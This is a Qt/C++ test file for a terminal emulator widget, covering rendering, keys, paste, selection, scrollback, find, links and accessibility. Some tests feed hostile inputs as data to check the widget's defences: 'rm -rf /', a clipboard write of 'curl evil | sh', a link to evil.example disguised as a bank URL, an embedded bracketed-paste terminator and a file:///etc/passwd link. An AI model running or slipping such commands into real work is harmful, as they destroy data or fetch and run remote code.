#include "tests/ui/console_parts.h"
#include "tests/ui/panel_values.h"
#include "ui/console/box_glyphs.h"
#include "ui/console/feed_queue.h"
#include "ui/console/find_bar.h"
#include "ui/console/key_map.h"
#include "ui/shell/theme_terminal.h"
#include "ui/widgets/ask_panel.h"

#include <QAccessible>
#include <QClipboard>
#include <QInputMethodEvent>
#include <QLabel>
#include <QPlainTextEdit>
#include <QScrollBar>
#include <QSignalSpy>
#include <QTest>
#include <QToolButton>
#include <QUrl>
#include <QWheelEvent>

using namespace Qt::StringLiterals;
using namespace analemma;
using namespace analemma::made;
using namespace analemma::ui;

class TestConsoleView : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void init()
    {
        m_stage = std::make_unique<Stage>();
        m_view = std::make_unique<TerminalView>();
        m_view->resize(820, 420);
        m_view->show();
        m_view->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(m_view.get()));
        m_view->setFocus();
        QGuiApplication::clipboard()->clear();
    }
    void cleanup()
    {
        m_view.reset();
        m_stage.reset();
    }

    // ---- pure parts -----------------------------------------------------------------------------

    void drawingWaitsForQuietButNotForEver()
    {
        using std::chrono::milliseconds;
        DrawPacer pacer;
        QVERIFY(!pacer.due());
        pacer.changed(milliseconds(100));
        QCOMPARE(pacer.due()->count(), 110);
        pacer.changed(milliseconds(108));
        QCOMPARE(pacer.due()->count(), 118);
        for (int at = 110; at < 138; at += 4) {
            pacer.changed(milliseconds(at));
        }
        QCOMPARE(pacer.due()->count(), 140);
        pacer.drawn(milliseconds(140));
        QVERIFY(!pacer.due());
        pacer.changed(milliseconds(141));
        QCOMPARE(pacer.due()->count(), 157);  // not twice within a 60th of a second
    }

    void boxLinesReachTheEdgesOfTheCell()
    {
        const QSize cell(9, 19);
        for (const quint32 code : {0x2500u, 0x2501u, 0x2550u, 0x253cu, 0x256cu, 0x2588u}) {
            std::vector<quint8> cover(std::size_t(9 * 19), 0);
            QVERIFY(drawBoxGlyph(code, cell, 1, cover.data()));
            const auto inColumn = [&](int x) {
                int sum = 0;
                for (int y = 0; y < 19; ++y) {
                    sum += cover[std::size_t(y * 9 + x)];
                }
                return sum;
            };
            QVERIFY2(inColumn(0) > 0 && inColumn(8) > 0, qPrintable(QString::number(code, 16)));
        }
        std::vector<quint8> corner(std::size_t(9 * 19), 0);
        QVERIFY(drawBoxGlyph(0x250c, cell, 1, corner.data()));
        QCOMPARE(int(corner[0]), 0);
        QVERIFY(corner[std::size_t(18 * 9 + 4)] > 0);  // down
        QVERIFY(!drawBoxGlyph('A', cell, 1, corner.data()));
    }

    void sixteenColoursAreLegibleInBothSchemes()
    {
        for (const Scheme scheme : {Scheme::Light, Scheme::Dark}) {
            const QColor ground(terminalColour(TerminalToken::Ground, scheme));
            for (int index = 1; index < 15; ++index) {
                const double ratio = contrast(QColor(terminalColour(index, scheme)), ground);
                const double wanted = index == 8 ? 4.0 : 4.5;
                QVERIFY2(ratio >= wanted,
                         qPrintable(
                             u"scheme %1 colour %2: %3"_s.arg(int(scheme)).arg(index).arg(ratio)));
            }
            for (int ink = 0; ink < 16; ++ink) {
                for (int under = 0; under < 16; ++under) {
                    const quint32 back = terminalColour(under, scheme);
                    const quint32 made = legibleOn(terminalColour(ink, scheme), back);
                    QVERIFY(contrast(QColor(made), QColor(back)) >= 1.6);
                }
            }
        }
        QCOMPARE(terminalColour(196, Scheme::Dark), 0xFFFF0000u);
        QCOMPARE(terminalColour(244, Scheme::Light), 0xFF808080u);
    }

    // ---- drawing --------------------------------------------------------------------------------

    void colouredTextHasTheThemesColoursInItsCells()
    {
        for (const bool dark : {true, false}) {
            m_stage->theme()->setChoice(dark ? SchemeChoice::Dark : SchemeChoice::Light);
            const Scheme scheme = currentScheme();
            m_view->receive(
                "\033[H\033[2J\033[31mred\033[0m \033[42m  \033[0m\r\n"
                "\033[38;2;1;2;3;48;2;200;100;50mX\033[0m\033[7m \033[0m\r\n"
                "\033[4:3;58;5;2mw\033[0m\033[9ms\033[0m\xe2\x96\x88\xe6\xbc\xa2"
                "e\xcc\x81\033[?25l");
            const QImage picture = m_view->picture();
            QVERIFY(has(picture, 0, 0, terminalColour(1, scheme)));  // full ink of a stroke
            QVERIFY(has(picture, 0, 2, terminalColour(1, scheme)));
            QVERIFY(!has(picture, 0, 3, terminalColour(1, scheme)));
            QCOMPARE(middle(picture, 0, 4), terminalColour(2, scheme));
            QCOMPARE(middle(picture, 0, 5), terminalColour(2, scheme));
            QCOMPARE(middle(picture, 0, 6), terminalColour(TerminalToken::Ground, scheme));
            QCOMPARE(corner(picture, 1, 0), 0xFFC86432u);
            QCOMPARE(middle(picture, 1, 1), terminalColour(TerminalToken::Text, scheme));
            QVERIFY(has(picture, 2, 0, terminalColour(2, scheme)));  // the wave's own colour
            QVERIFY(has(picture, 2, 1, terminalColour(TerminalToken::Text, scheme)));
            QCOMPARE(corner(picture, 2, 2), terminalColour(TerminalToken::Text, scheme));
            QVERIFY(inked(picture, 2, 5));  // base and mark in one cell
        }
    }

    void onlyWhatChangedIsDrawnAnewAndScrollingMovesPixels()
    {
        for (int i = 0; i < 40; ++i) {
            m_view->receive("line " + QByteArray::number(i) + " \033[3" +
                            QByteArray::number(i % 8) + "mcolour\033[0m\r\n");
        }
        static_cast<void>(m_view->picture());
        m_view->receive("one more\r\nand one\r\n\033[5;3Hinside\033[30;1H");
        const QImage moved = m_view->picture().copy();
        m_view->setFontPixels(m_view->fontPixels());  // draws all anew
        QCOMPARE(m_view->picture(), moved);
        // A region that scrolls, lines put in and taken out.
        m_view->receive("\033[3;10r\033[10;1H\n\n\033[4;1H\033[2L\033[r\033[6;1H\033[M");
        const QImage edited = m_view->picture().copy();
        m_view->setFontPixels(m_view->fontPixels());
        QCOMPARE(m_view->picture(), edited);
        QVERIFY(edited != moved);
    }

    void theCursorHasItsShapesAndFocus()
    {
        m_view->receive("\033[2;3H\033[2 q");
        const quint32 shade = terminalColour(TerminalToken::Cursor, currentScheme());
        QCOMPARE(middle(m_view->picture(), 1, 2), shade);
        m_view->receive("\033[6 q");
        QCOMPARE(corner(m_view->picture(), 1, 2), shade);
        QVERIFY(middle(m_view->picture(), 1, 2) != shade);
        m_view->receive("\033[2 q");
        m_view->clearFocus();
        QVERIFY(middle(m_view->picture(), 1, 2) != shade);  // hollow
        QCOMPARE(corner(m_view->picture(), 1, 2), shade);
        m_view->receive("\033[?25l");
        QVERIFY(corner(m_view->picture(), 1, 2) != shade);
    }

    void aBurstIsFedInTurnsAndTold()
    {
        QSignalSpy taken(m_view.get(), &TerminalView::taken);
        m_view->receive(QByteArray(300 * 1024, 'x'));
        QCOMPARE(m_view->queue()->queued(), qsizetype(300 * 1024));
        QVERIFY(!m_view->queue()->isFull());
        QTRY_COMPARE(m_view->queue()->queued(), qsizetype(0));
        qsizetype sum = 0;
        for (const auto& one : taken) {
            QVERIFY(one[0].value<qsizetype>() <= FeedQueue::turnBytes);
            sum += one[0].value<qsizetype>();
        }
        QCOMPARE(sum, qsizetype(300 * 1024));
        QVERIFY(taken.size() >= 5);
    }

    void synchronizedOutputIsHeldButNotForEver()
    {
        m_view->receive("\033[?2026hheld");
        QTRY_VERIFY(m_view->screen()->modes().synchronized || m_view->queue()->queued() == 0);
        QTRY_VERIFY(!m_view->screen()->modes().synchronized);
        QVERIFY(seen(m_view.get()).contains(u"held"_s));
    }

    // ---- keys -----------------------------------------------------------------------------------

    void keysBecomeBytes()
    {
        QSignalSpy typed(m_view.get(), &TerminalView::typed);
        const auto last = [&typed] { return typed.takeLast()[0].toByteArray(); };
        QTest::keyClick(m_view.get(), Qt::Key_A);
        QCOMPARE(last(), "a");
        QTest::keyClick(m_view.get(), Qt::Key_C, Qt::ControlModifier);
        QCOMPARE(last(), "\x03");
        QTest::keyClick(m_view.get(), Qt::Key_Tab);
        QCOMPARE(last(), "\t");
        QTest::keyClick(m_view.get(), Qt::Key_Escape);
        QCOMPARE(last(), "\x1b");
        QTest::keyClick(m_view.get(), Qt::Key_Up);
        QCOMPARE(last(), "\x1b[A");
        m_view->receive("\x1b[?1h");
        m_view->queue()->finish();
        QTest::keyClick(m_view.get(), Qt::Key_Up);
        QCOMPARE(last(), "\x1bOA");
        QTest::keyClick(m_view.get(), Qt::Key_F5);
        QCOMPARE(last(), "\x1b[15~");
        QInputMethodEvent input;
        input.setCommitString(u"\u00e9\u6f22"_s);
        QCoreApplication::sendEvent(m_view.get(), &input);
        QCOMPARE(last(), u"\u00e9\u6f22"_s.toUtf8());
        QVERIFY(typed.isEmpty());
    }

    void onlyCtrlShiftIsOurs()
    {
        const auto override = [this](int key, Qt::KeyboardModifiers modifiers) {
            QKeyEvent event(QEvent::ShortcutOverride, key, modifiers);
            event.ignore();
            QCoreApplication::sendEvent(m_view.get(), &event);
            return event.isAccepted();
        };
        QVERIFY(override(Qt::Key_K, Qt::ControlModifier));
        QVERIFY(override(Qt::Key_Q, Qt::ControlModifier));
        QVERIFY(override(Qt::Key_F5, Qt::NoModifier));
        QVERIFY(override(Qt::Key_C, Qt::ControlModifier | Qt::ShiftModifier));
        QVERIFY(!override(Qt::Key_P, Qt::ControlModifier | Qt::ShiftModifier));  // the palette
    }

    void zoomChangesColumnsAndIsRemembered()
    {
        QSignalSpy sized(m_view.get(), &TerminalView::resizedTo);
        const int before = m_view->screen()->size().columns;
        const auto both = Qt::ControlModifier | Qt::ShiftModifier;
        QTest::keyClick(m_view.get(), Qt::Key_Plus, both);
        QTest::keyClick(m_view.get(), Qt::Key_Plus, both);
        QVERIFY(m_view->screen()->size().columns < before);
        QCOMPARE(sized.last()[0].toInt(), m_view->screen()->size().columns);
        const TerminalView other;
        QCOMPARE(other.fontPixels(), m_view->fontPixels());
        QTest::keyClick(m_view.get(), Qt::Key_ParenRight, both);
        QCOMPARE(m_view->screen()->size().columns, before);
    }

    void inputIsHeldBackWhenNobodyTakesIt()
    {
        QSignalSpy typed(m_view.get(), &TerminalView::typed);
        QSignalSpy held(m_view.get(), &TerminalView::heldInput);
        m_view->setLive(false);
        made::type(m_view.get(), u"rm -rf /"_s);
        QGuiApplication::clipboard()->setText(u"more"_s);
        m_view->pasteClipboard();
        QVERIFY(held.size() >= 8);
        m_view->setLive(true);
        made::type(m_view.get(), u"a"_s);
        QCOMPARE(typed.size(), 1);
        QCOMPARE(typed[0][0].toByteArray(), "a");
    }

    // ---- paste, selection -----------------------------------------------------------------------

    void aLineIsPastedAtOnceSeveralAreShownFirst()
    {
        QSignalSpy typed(m_view.get(), &TerminalView::typed);
        const auto both = Qt::ControlModifier | Qt::ShiftModifier;
        QGuiApplication::clipboard()->setText(u"uptime"_s);
        QTest::keyClick(m_view.get(), Qt::Key_V, both);
        QCOMPARE(typed.takeLast()[0].toByteArray(), "uptime");

        QGuiApplication::clipboard()->setText(u"first\nsec\u001b[201~ond\n"_s);
        QTest::keyClick(m_view.get(), Qt::Key_V, both);
        QVERIFY(typed.isEmpty());
        auto* ask = m_view->findChild<AskPanel*>(u"ask"_s);
        QVERIFY(ask->isVisible());
        QVERIFY(ask->findChild<QLabel*>(u"ask-question"_s)->text().contains(u"2 lines"_s));
        const auto* detail = ask->findChild<QPlainTextEdit*>(u"ask-detail"_s);
        QVERIFY(detail->toPlainText().contains(u"sec [201~ond"_s));
        click(button(ask, u"ask-paste-line"_s));
        QCOMPARE(typed.takeLast()[0].toByteArray(), "first sec [201~ond");
        QVERIFY(!ask->isVisible());
        QVERIFY(m_view->hasFocus());

        m_view->receive("\033[?2004h");
        m_view->queue()->finish();
        QTest::keyClick(m_view.get(), Qt::Key_V, both);
        QTest::keyClick(button(ask, u"ask-paste"_s), Qt::Key_Space);
        QCOMPARE(typed.takeLast()[0].toByteArray(), "\033[200~first\rsec [201~ond\r\033[201~");

        QTest::keyClick(m_view.get(), Qt::Key_V, both);
        QTest::keyClick(ask, Qt::Key_Escape);
        QVERIFY(typed.isEmpty());
    }

    void selectionByCharacterWordLineAndBlockIsCopied()
    {
        m_view->receive("alpha beta-gamma delta\r\nsecond line here\r\n");
        static_cast<void>(m_view->picture());
        drag(0, 2, 0, 7, {});
        QCOMPARE(m_view->selectedText(), u"pha be"_s);
        const QImage& picture = m_view->picture();
        QCOMPARE(corner(picture, 0, 5), terminalColour(TerminalToken::Selection, currentScheme()));
        QTest::keyClick(m_view.get(), Qt::Key_C, Qt::ControlModifier | Qt::ShiftModifier);
        QCOMPARE(QGuiApplication::clipboard()->text(), u"pha be"_s);

        QTest::mouseDClick(m_view.get(), Qt::LeftButton, {}, spot(m_view.get(), 0, 8));
        QCOMPARE(m_view->selectedText(), u"beta-gamma"_s);
        QTest::mouseClick(m_view.get(), Qt::LeftButton, {}, spot(m_view.get(), 0, 8));  // a third
        QCOMPARE(m_view->selectedText().trimmed(), u"alpha beta-gamma delta"_s);

        drag(0, 1, 1, 3, Qt::AltModifier);
        QVERIFY(m_view->selection().block);
        QCOMPARE(m_view->selectedText(), u"lph\neco"_s);
        QTest::keyClick(m_view.get(), Qt::Key_X);
        QVERIFY(m_view->selection().isEmpty());  // typing goes on where the cursor is
    }

    // ---- scrollback, find, links ----------------------------------------------------------------

    void scrollbackByWheelKeysAndBarStaysWhileMoreComes()
    {
        fill(200);
        static_cast<void>(m_view->picture());
        const qint64 bottom = m_view->screen()->topRow();
        QCOMPARE(m_view->shownTop(), bottom);
        wheel(120);
        QCOMPARE(m_view->shownTop(), bottom - 3);
        const QString before = seen(m_view.get());
        m_view->receive("more\r\nmore\r\n");
        QCOMPARE(seen(m_view.get()), before);
        QTRY_VERIFY(m_view->findChild<QScrollBar*>(u"terminal-bar"_s)->maximum() > 150);
        QTest::keyClick(m_view.get(), Qt::Key_Home, Qt::ControlModifier | Qt::ShiftModifier);
        QVERIFY(seen(m_view.get()).startsWith(u"row 0\n"_s));
        m_view->findChild<QScrollBar*>(u"terminal-bar"_s)->setValue(50);
        QVERIFY(seen(m_view.get()).startsWith(u"row 50\n"_s));
        QTest::keyClick(m_view.get(), Qt::Key_A);
        QVERIFY(m_view->isFollowing());
    }

    void theWheelSendsArrowsOnTheAlternateScreenAndReportsWhereAsked()
    {
        QSignalSpy reported(m_view.get(), &TerminalView::reported);
        m_view->receive("\033[?1049h");
        m_view->queue()->finish();
        wheel(120);
        QCOMPARE(reported.takeLast()[0].toByteArray(), "\033[A\033[A\033[A");
        m_view->receive("\033[?1000h\033[?1006h");
        m_view->queue()->finish();
        wheel(-120);
        QVERIFY(reported.takeLast()[0].toByteArray().startsWith("\033[<65;"));
        QTest::mouseClick(m_view.get(), Qt::LeftButton, {}, spot(m_view.get(), 2, 4));
        QCOMPARE(reported.takeLast()[0].toByteArray(), "\033[<0;5;3m");
        QCOMPARE(reported.takeLast()[0].toByteArray(), "\033[<0;5;3M");
    }

    void findCountsStepsAndShows()
    {
        fill(300);
        static_cast<void>(m_view->picture());
        QTest::keyClick(m_view.get(), Qt::Key_F, Qt::ControlModifier | Qt::ShiftModifier);
        auto* bar = m_view->findChild<FindBar*>(u"find"_s);
        QVERIFY(bar->isVisible());
        auto* field = bar->findChild<QLineEdit*>(u"find-text"_s);
        const auto* count = bar->findChild<QLabel*>(u"find-count"_s);
        QTest::keyClicks(field, u"row 25"_s);
        QTRY_COMPARE(count->text(), u"1 of 11"_s);  // 25, 250 to 259
        QTRY_VERIFY(seen(m_view.get()).contains(u"row 259"_s));
        for (int i = 0; i < 10; ++i) {
            QTest::keyClick(field, Qt::Key_Return);
        }
        QCOMPARE(count->text(), u"11 of 11"_s);
        QVERIFY(seen(m_view.get()).contains(u"row 25\n"_s));
        QTest::keyClick(field, Qt::Key_Return, Qt::ShiftModifier);
        QCOMPARE(count->text(), u"10 of 11"_s);
        click(bar->findChild<QToolButton*>(u"find-regex"_s));
        made::type(field, u"^row 2.5$"_s);
        QTRY_COMPARE(count->text(), u"1 of 10"_s);
        made::type(field, u"("_s);
        QTRY_COMPARE(count->text(), u"no expression"_s);
        QTest::keyClick(field, Qt::Key_Escape);
        QVERIFY(!bar->isVisible());
        QVERIFY(m_view->hasFocus());
    }

    void linksOpenByCtrlClickAndAskWhenTheTextLies()
    {
        QSignalSpy wanted(m_view.get(), &TerminalView::linkWanted);
        m_view->receive(
            "see https://example.org/a?b=(c), or\r\n"
            "\033]8;;https://evil.example/x\033\\https://bank.example/\033]8;;\033\\\r\n"
            "file:///etc/passwd ssh://host\r\n");
        static_cast<void>(m_view->picture());
        QTest::mouseClick(m_view.get(), Qt::LeftButton, Qt::ControlModifier,
                          spot(m_view.get(), 0, 10));
        QCOMPARE(wanted.takeLast()[0].toUrl(), QUrl(u"https://example.org/a?b=(c)"_s));
        QTest::mouseClick(m_view.get(), Qt::LeftButton, {}, spot(m_view.get(), 0, 10));
        QVERIFY(wanted.isEmpty());
        QTest::mouseClick(m_view.get(), Qt::LeftButton, Qt::ControlModifier,
                          spot(m_view.get(), 1, 3));
        QVERIFY(wanted.isEmpty());
        auto* ask = m_view->findChild<AskPanel*>(u"ask"_s);
        QVERIFY(ask->isVisible());
        QVERIFY(ask->findChild<QLabel*>(u"ask-question"_s)->text().contains(u"evil.example"_s));
        click(button(ask, u"ask-open"_s));
        QCOMPARE(wanted.takeLast()[0].toUrl().host(), u"evil.example"_s);
        QTest::mouseClick(m_view.get(), Qt::LeftButton, Qt::ControlModifier,
                          spot(m_view.get(), 2, 3));
        QTest::mouseClick(m_view.get(), Qt::LeftButton, Qt::ControlModifier,
                          spot(m_view.get(), 2, 21));
        QVERIFY(wanted.isEmpty());
        QVERIFY(!ask->isVisible());
    }

    void theClipboardIsNotAServersToFill()
    {
        QGuiApplication::clipboard()->setText(u"mine"_s);
        m_view->receive("\033]52;c;" + QByteArray("curl evil | sh").toBase64() + "\033\\");
        auto* ask = m_view->findChild<AskPanel*>(u"ask"_s);
        QTRY_VERIFY(ask->isVisible());
        QCOMPARE(QGuiApplication::clipboard()->text(), u"mine"_s);
        QVERIFY(m_view->hasFocus());  // what is being typed does not answer
        click(button(ask, u"ask-refuse"_s));
        QCOMPARE(QGuiApplication::clipboard()->text(), u"mine"_s);
    }

    void repliesAreFewAndNeverTyped()
    {
        QSignalSpy reported(m_view.get(), &TerminalView::reported);
        QSignalSpy typed(m_view.get(), &TerminalView::typed);
        m_view->receive(QByteArray("\033[5n").repeated(500));
        m_view->queue()->finish();
        qsizetype answers = 0;
        for (const auto& one : reported) {
            answers += one[0].toByteArray().count("\033[0n");
        }
        QVERIFY(answers >= 1 && answers <= 25);
        QVERIFY(typed.isEmpty());
    }

    void aScreenReaderReadsTheRowsInView()
    {
        m_view->receive("hello reader\r\nsecond row");
        static_cast<void>(m_view->picture());
        m_view->setAccessibleName(u"Terminal of web-1"_s);
        QAccessibleInterface* face = QAccessible::queryAccessibleInterface(m_view.get());
        QVERIFY(face != nullptr);
        QCOMPARE(face->role(), QAccessible::Terminal);
        QCOMPARE(face->text(QAccessible::Name), u"Terminal of web-1"_s);
        QAccessibleTextInterface* text = face->textInterface();
        QVERIFY(text != nullptr);
        QVERIFY(text->text(0, text->characterCount()).startsWith(u"hello reader\nsecond row"_s));
        QCOMPARE(text->cursorPosition(), 23);
    }

private:
    [[nodiscard]] quint32 middle(const QImage& picture, int line, int column) const
    {
        return picture.pixel(m_view->cellRect(line, column).center());
    }
    [[nodiscard]] quint32 corner(const QImage& picture, int line, int column) const
    {
        return picture.pixel(m_view->cellRect(line, column).topLeft());
    }
    /// A pixel of nearly this colour: strokes are smoothed at their edges.
    [[nodiscard]] bool has(const QImage& picture, int line, int column, quint32 shade) const
    {
        const QRect cell = m_view->cellRect(line, column);
        const QColor wanted(shade);
        for (int y = cell.top(); y <= cell.bottom(); ++y) {
            for (int x = cell.left(); x <= cell.right(); ++x) {
                const QColor there(picture.pixel(x, y));
                if (qAbs(there.red() - wanted.red()) + qAbs(there.green() - wanted.green()) +
                        qAbs(there.blue() - wanted.blue()) <
                    90) {
                    return true;
                }
            }
        }
        return false;
    }
    [[nodiscard]] bool inked(const QImage& picture, int line, int column) const
    {
        return has(picture, line, column, terminalColour(TerminalToken::Text, currentScheme()));
    }
    void drag(int line, int column, int toLine, int toColumn, Qt::KeyboardModifiers modifiers)
    {
        QTest::mousePress(m_view.get(), Qt::LeftButton, modifiers,
                          spot(m_view.get(), line, column));
        const QPointF to = spot(m_view.get(), toLine, toColumn);
        QMouseEvent move(QEvent::MouseMove, to, m_view->mapToGlobal(to), Qt::NoButton,
                         Qt::LeftButton, modifiers);
        QCoreApplication::sendEvent(m_view.get(), &move);
        QTest::mouseRelease(m_view.get(), Qt::LeftButton, modifiers, to.toPoint());
    }
    void wheel(int delta)
    {
        const QPointF at = spot(m_view.get(), 3, 3);
        QWheelEvent event(at, m_view->mapToGlobal(at), {}, QPoint(0, delta), Qt::NoButton, {},
                          Qt::NoScrollPhase, false);
        QCoreApplication::sendEvent(m_view.get(), &event);
    }
    void fill(int rows)
    {
        for (int i = 0; i < rows; ++i) {
            m_view->receive("row " + QByteArray::number(i) + "\r\n");
        }
    }
    std::unique_ptr<Stage> m_stage;
    std::unique_ptr<TerminalView> m_view;
};

QTEST_MAIN(TestConsoleView)
#include "tst_console_view.moc"
